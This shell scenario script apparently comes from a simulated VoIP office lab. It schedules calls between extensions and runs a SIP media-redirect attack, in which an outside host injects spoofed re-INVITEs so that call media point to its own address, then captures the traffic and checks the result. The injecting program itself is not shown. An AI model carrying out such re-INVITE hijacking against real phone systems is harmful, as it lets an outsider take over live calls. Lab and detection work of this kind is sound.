# A host outside moves the media of running calls to itself: it sends the phones that called
# re-INVITEs in the called phones' name, with its own address in the SDP. Media are not captured.
relocate example.org 5060 192.168.210 198.51.100 203.0.113
EXTENSIONS=(341 342 343 344 345 346 347)
EXISTING='^3[4-5][0-9]$'
WEAK=none
open_office
add_attacker third 203.0.113.99
start_office_capture
keep_alive 13
office_day 320 92 15-76
n=0
for pair in "342 347" "345 341" "343 346"; do
    read -r from to <<<"$pair"
    second=$((19 + 17 * n))
    at "$second" tell "$from" dial "sip:$to@$DOMAIN"
    at "$((second + 3))" tell "$to" accept
    at "$((second + 12))" tell "$to" hangup
    at "$((second + 13))" tell "$from" hangup
    n=$((n + 1))
done
at 18 attack A1 hijack:media_redirect third 5079 "A host outside sends re-INVITEs with its own media address into running calls, to the phones that called." \
    "a Python program of this directory" "$here/intrude" "$scratch/$recording.pcap" 192.168.210.1 INVITE caller 203.0.113.99:5079 3 62
within_calls_of_others A1
play
wait_for A1
close_office
expect_said A1 'SIP/2.0 200 OK' 'messages sent: 3'
